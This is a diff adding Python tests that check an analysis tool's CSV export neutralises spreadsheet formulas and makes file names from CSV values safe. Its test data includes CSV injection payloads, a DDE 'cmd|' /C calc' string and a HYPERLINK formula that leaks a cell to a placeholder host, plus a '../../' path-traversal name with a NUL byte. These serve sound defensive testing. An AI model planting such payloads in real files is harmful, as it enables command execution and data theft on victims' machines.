@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from pathlib import Path
 
 import pandas as pd
@@ -13,7 +14,8 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from analysis.cli import main
-from analysis.load import STUDY_COLUMNS
+from analysis.filenames import file_stem
+from analysis.load import STUDY_COLUMNS, csv_text, read_csv, spreadsheet_text, unquoted_text, write_csv
 from analysis.regimes import fit_table
 
 FIXTURES = Path(__file__).parent / "fixtures"
@@ -204,3 +206,182 @@ def test_plot_and_report_of_two_protocols_and_a_repeated_row(folder, capsys):
     assert code == 0
     text = (folder / "r.md").read_text()
     assert text.count("the studies differ in goal_error") >= 2
+
+
+# ---- CSV cells that a spreadsheet would run, and the round trip of export and --csv -----------------------
+# Each starts as a spreadsheet formula would (OWASP's CSV injection list: = + - @ tab carriage return), or
+# with a "'" before one (it must come back with its own "'").
+FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=already quoted", "-inf"]
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# What --csv reads each as: a "'" before a formula is the mark that export writes, and reading removes it.
+READ_AS = [formula[1:] if formula.startswith("'") else formula for formula in FORMULAS]
+
+
+def _formula_csv(table: pd.DataFrame) -> str:
+    """A CSV as a spreadsheet saves it: CRLF line ends, so that a cell holding a carriage return is quoted."""
+    return table.to_csv(index=False, lineterminator="\r\n")
+
+
+def _assert_same_table(source: str | Path, written: str | Path) -> pd.DataFrame:
+    """``--csv`` reads ``written`` as the table it reads ``source`` as: the same values in the source's columns,
+    and the study columns the source lacks empty in both. Returns the table read from ``written``."""
+    original, again = read_csv(source), read_csv(written)
+    given = list(pd.read_csv(source, nrows=0).columns)
+    pd.testing.assert_frame_equal(original[given], again[given])
+    for table in (original, again):
+        assert table.drop(columns=given).isna().all().all()
+    return again
+
+
+def _formula_table() -> pd.DataFrame:
+    rows = []
+    for index, formula in enumerate(FORMULAS):
+        for batch_size, steps in ((4, 4000.0), (16, 1100.0), (64, 400.0)):
+            rows.append({"workload": formula, "optimizer": "@sgd" if index % 2 else "sgd", "sparsity": 0.0,
+                         "batch_size": batch_size, "steps_to_result": steps, "goal_error": 0.05,
+                         "device": "=cpu()", "experiment": "+e", "study_key": f"-k{index}-{batch_size}",
+                         "study_run_id": "-0.5" if index == 0 else f"run{index}-{batch_size}"})
+    return pd.DataFrame(rows)
+
+
+def test_export_makes_formula_cells_inert_and_reads_back_as_the_same_table(folder, capsys):
+    source = write(folder, "formulas.csv", _formula_csv(_formula_table()))
+    exported = folder / "exported.csv"
+    code, _ = run(["export", "--csv", source, "--output", str(exported)], capsys)
+    assert code == 0
+    records = list(csv.reader(io.StringIO(exported.read_bytes().decode())))
+    header, rows = records[0], records[1:]
+    cells = [cell for row in rows for cell in row]
+    # no cell of the file starts as a formula, except a number (a negative number is no formula)
+    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and c != "-0.5"], cells
+    column = {name: [row[i] for row in rows] for i, name in enumerate(header)}
+    assert set(column["workload"]) == {f"'{value}" for value in READ_AS}
+    assert set(column["optimizer"]) == {"sgd", "'@sgd"} and set(column["device"]) == {"'=cpu()"}
+    assert column["study_run_id"][0] == "-0.5" and column["sparsity"][0] == "0.0"
+    text = exported.read_text()
+    assert '"-0.5"' in text and "'-0.5" not in text  # text that reads as a number stays as it is
+    assert "\n0.0,4," not in text and ",0.0,4," in text  # numbers unquoted
+    # --csv reads back the same table: the "'" that export added is gone, nothing else changed
+    again = _assert_same_table(source, exported)
+    assert set(again["workload"]) == set(READ_AS)
+    # exporting what was exported writes the same bytes; so does standard output
+    code, _ = run(["export", "--csv", str(exported), "--output", str(folder / "twice.csv")], capsys)
+    assert code == 0 and (folder / "twice.csv").read_bytes() == exported.read_bytes()
+    main(["export", "--csv", str(exported)])
+    assert capsys.readouterr().out == exported.read_bytes().decode()
+
+
+def test_csv_output_of_every_command_is_inert_too(folder, capsys):
+    """`table --format csv` (the study table with every column) and `fit --format csv` write as export does."""
+    source = write(folder, "formulas.csv", _formula_csv(_formula_table().assign(extra=-0.5)))
+    for command in (["table"], ["fit", "--bootstrap", "0"]):
+        main([*command, "--csv", source, "--format", "csv"])
+        out = capsys.readouterr().out
+        cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
+        assert "'=HYPERLINK(" in out and not [c for c in cells if c.startswith(FORMULA_STARTS) and c != "-0.5"]
+    table = folder / "table.csv"
+    main(["table", "--csv", source, "--format", "csv"])
+    table.write_text(capsys.readouterr().out, newline="")
+    _assert_same_table(source, table)
+
+
+@settings(max_examples=300, deadline=None)
+@given(text=st.text(st.characters(blacklist_categories=("Cs",)), max_size=12))
+def test_spreadsheet_text_is_inert_and_undone_exactly(text):
+    written = spreadsheet_text(text)
+    assert unquoted_text(written) == text
+    if written.startswith(FORMULA_STARTS):
+        float(written)  # only a number may start like a formula
+    assert written in (text, "'" + text)
+
+
+# Any character, the ones that CSV, spreadsheets and our reader treat specially drawn often.
+NAME_CHARACTERS = st.one_of(st.sampled_from(list("\r\n\t\x00\"',; =+-@\ufeff")),
+                            st.characters(blacklist_categories=("Cs",)))
+NAMES = st.text(NAME_CHARACTERS, min_size=1, max_size=10).filter(str.strip)
+
+
+@FUZZ
+@given(workloads=st.lists(NAMES, min_size=1, max_size=3, unique=True), optimizer=NAMES, key=NAMES)
+def test_any_names_survive_export_and_read_back(workloads, optimizer, key, folder):
+    table = pd.DataFrame({"workload": workloads, "optimizer": optimizer, "sparsity": 0.0, "batch_size": 8,
+                          "steps_to_result": 100.0, "study_key": [f"{key}{i}" for i in range(len(workloads))]})
+    first, second, third = (folder / f"{name}.csv" for name in ("first", "second", "third"))
+    write_csv(table, first)
+    again = read_csv(first)
+    pd.testing.assert_frame_equal(again[list(table.columns)], table)
+    write_csv(again, second)
+    write_csv(read_csv(second), third)
+    assert third.read_bytes() == second.read_bytes()
+
+
+def test_numbers_are_written_as_numbers():
+    text = csv_text(pd.DataFrame({"slope": [-0.5, 1e-300, -0.0], "name": ["-0.5", "-1e-3", "-x"]}))
+    assert text.splitlines()[1:] == ['-0.5,"-0.5"', '1e-300,"-1e-3"', "-0.0,\"'-x\""]
+
+
+# ---- file names made from names read from a CSV or a store --------------------------------------------------
+def _timed_curve(workload: str, optimizer: str = "sgd") -> pd.DataFrame:
+    """One curve of three studies, timed (so that `report` and `time` draw their time figures too)."""
+    return pd.DataFrame({"workload": workload, "optimizer": optimizer, "sparsity": 0.0, "batch_size": [8, 32, 128],
+                         "steps_to_result": [1000.0, 300.0, 200.0], "seconds_per_step": [0.001, 0.002, 0.008],
+                         "pack_size": 1.0, "device": "cpu $x^$", "model_parameter_bytes": 4e6})
+
+
+def _figures_in(directory: Path) -> list[Path]:
+    files = sorted(p for p in directory.rglob("*") if p.is_file())
+    assert all(p.parent == directory for p in files), files  # nothing in a folder a name made
+    return files
+
+
+def test_plot_of_a_workload_with_a_slash(folder, capsys):
+    """The tester's crash: workload 'a/b' made `plot` save figures/steps_a/b_sgd.png (no such folder)."""
+    path = write(folder, "slash.csv", _timed_curve("a/b").to_csv(index=False))
+    code, _ = run(["plot", "--csv", path, "--out-dir", "figures"], capsys)
+    assert code == 0
+    assert [p.suffix for p in _figures_in(folder / "figures")] == [".png", ".svg"] * 2
+    code, _ = run(["time", "--csv", path, "--out-dir", "times"], capsys)
+    assert code == 0 and len(_figures_in(folder / "times")) == 2
+
+
+# Two workloads that clean to the same characters; an optimizer that is a path out of the folder, with NUL,
+# longer than a file name may be, and a '$' that matplotlib would read as the start of a formula.
+PATH_NAMES = ["a/b", "a\\b"]
+PATH_OPTIMIZER = "../../$\\frac{$\x00" + "x" * 300
+
+
+def test_report_draws_every_curve_to_its_own_file(folder, capsys):
+    table = pd.concat([_timed_curve(name, PATH_OPTIMIZER) for name in PATH_NAMES], ignore_index=True)
+    path = write(folder, "names.csv", table.to_csv(index=False))
+    code, _ = run(["report", "--csv", path, "--bootstrap", "0", "--output", "out/report.md"], capsys)
+    assert code == 0
+    files = _figures_in(folder / "out" / "report_figures")
+    # a steps, a sparsity and a time figure per curve, each as PNG and SVG: none overwrote another
+    assert len(files) == 3 * 2 * len(PATH_NAMES)
+    assert not (folder / "x").exists() and sorted(p.name for p in folder.iterdir()) == ["names.csv", "out"]
+    links = re.findall(r"!\[[^\]]*\]\(([^)]+)\)", (folder / "out" / "report.md").read_text())
+    assert len(links) == 3 * len(PATH_NAMES) and all((folder / "out" / link).is_file() for link in links)
+
+
+VALUES = st.text(st.characters(blacklist_categories=("Cs",)), max_size=80)
+
+
+@settings(max_examples=500, deadline=None)
+@given(first=st.tuples(VALUES, VALUES), second=st.tuples(VALUES, VALUES))
+def test_file_stems_are_safe_and_distinct(first, second):
+    for values in (first, second):
+        stem = file_stem("steps", *values)
+        assert re.fullmatch(r"[a-z0-9._-]+", stem) and len(stem) <= 120 and ".." not in stem.split("_")
+    if first != second:
+        assert file_stem("steps", *first) != file_stem("steps", *second)
+
+
+def test_file_stems_of_plain_names_stay_as_they_were():
+    assert file_stem("steps", "digits-simple-cnn", "sgd") == "steps_digits-simple-cnn_sgd"
+    assert file_stem("time", "w", "sgd", "sp0.5") == "time_w_sgd_sp0.5"
+    alike = ["a/b", "a\\b", "a-b", "A-B", "a_b", "a b", "a\x00b", "a--b"]
+    stems = {file_stem("steps", name, "sgd") for name in alike}
+    assert len(stems) == len(alike) and "steps_a-b_sgd" in stems
+    # a name and two names that join to it are different files
+    assert file_stem("steps", "x_y", "z") != file_stem("steps", "x", "y_z")
